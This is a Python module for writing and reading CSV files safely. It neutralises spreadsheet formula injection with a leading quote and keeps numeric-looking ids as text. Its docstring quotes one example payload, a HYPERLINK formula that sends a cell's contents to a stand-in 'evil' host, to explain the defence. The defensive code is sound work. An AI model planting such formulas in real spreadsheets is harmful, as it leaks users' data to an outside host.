"""Every CSV the project writes or reads back: safe to open in a spreadsheet, ids kept as text.

Query texts, ids and model names come from users' files and configs. A cell starting with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return is run as a formula by Excel, LibreOffice and Google Sheets
(``=HYPERLINK("http://evil/?"&A1, "click")``), so, following OWASP's guidance on CSV injection, such a cell is
written with a leading ``'`` (shown as text, never evaluated). Numbers are left alone, in numeric columns and as
text (``-0.5``). :func:`read_csv` removes exactly the quote :func:`write_csv` added, so a table makes the round
trip unchanged, and reads id columns as strings: ids that look like numbers (``007``, ``16``, ``1e3``) stay the
ids they were instead of becoming 7, 16 and 1000.0.
"""

from __future__ import annotations

import csv
import os
import re
import tempfile
from collections.abc import Iterable
from pathlib import Path

import pandas as pd

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
# Free-text columns read back as text whatever they hold (ids are recognised by name: *id, *ids, *-id).
TEXT_COLUMNS = ("query", "model", "change", "name")


def neutralise(cell: object) -> object:
    """A text cell a spreadsheet would evaluate, made inert with a leading quote; anything else unchanged.
    Cells that already start with quotes before a trigger get one more, so :func:`restore` is exact."""
    if not isinstance(cell, str) or NUMBER.fullmatch(cell):
        return cell
    return QUOTE + cell if cell.lstrip(QUOTE).startswith(TRIGGERS) else cell


def restore(cell: object) -> object:
    """The cell as it was before :func:`neutralise`."""
    if isinstance(cell, str) and cell.startswith(QUOTE) and cell.lstrip(QUOTE).startswith(TRIGGERS):
        return cell[1:]
    return cell


def _text_like(series: pd.Series) -> bool:
    return series.dtype == object or pd.api.types.is_string_dtype(series.dtype)


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy with every text cell, column name and index label neutralised; numeric columns untouched."""
    safe = frame.copy()
    for column in safe.columns:
        if _text_like(safe[column]):
            safe[column] = safe[column].map(neutralise)
    safe.columns = [neutralise(str(c)) for c in safe.columns]
    if isinstance(safe.index, pd.MultiIndex):
        safe.index = pd.MultiIndex.from_tuples(
            [tuple(neutralise(v) for v in t) for t in safe.index], names=safe.index.names
        )
    elif _text_like(safe.index.to_series()):
        safe.index = pd.Index([neutralise(v) for v in safe.index], name=neutralise(safe.index.name))
    return safe


def write_csv(frame: pd.DataFrame, path: Path, *, index: bool = False, float_format: str | None = None) -> Path:
    """The one CSV writer: neutralised cells, written to a temporary file and renamed into place (a crash or a
    full disk never leaves half a CSV under the final name)."""
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    handle, scratch = tempfile.mkstemp(prefix=f".{path.name}.", dir=path.parent)
    try:
        with os.fdopen(handle, "w", newline="") as out:
            # RFC 4180 line ends: a cell holding a lone carriage return is quoted, so it reads back as one cell.
            safe_frame(frame).to_csv(out, index=index, float_format=float_format, lineterminator="\r\n")
        os.replace(scratch, path)
    except BaseException:
        Path(scratch).unlink(missing_ok=True)
        raise
    return path


def is_id_column(name: str) -> bool:
    lowered = name.lower()
    return lowered.endswith(("id", "ids")) or lowered in TEXT_COLUMNS


def _numbers_where_possible(column: pd.Series) -> pd.Series:
    try:
        return pd.to_numeric(column.replace({"": None, "nan": None, "NaN": None, "<NA>": None}))
    except (TypeError, ValueError):
        return column


def read_csv(path: Path, *, text_columns: Iterable[str] = ()) -> pd.DataFrame:
    """A CSV written by :func:`write_csv` (or any CSV) with id and text columns as strings (an empty cell is an
    empty string there) and the neutralising quotes removed; other columns are numbers where all cells are.
    Parsed by the standard library's csv module, which keeps a carriage return inside a quoted cell."""
    with Path(path).open(newline="", encoding="utf-8") as handle:
        header, *rows = list(csv.reader(handle)) or [[]]
    frame = pd.DataFrame(rows, columns=[restore(c) for c in header], dtype=object)
    text = set(text_columns)
    for column in frame.columns:
        frame[column] = frame[column].map(restore)
        if not (is_id_column(str(column)) or column in text):
            frame[column] = _numbers_where_possible(frame[column])
    return frame
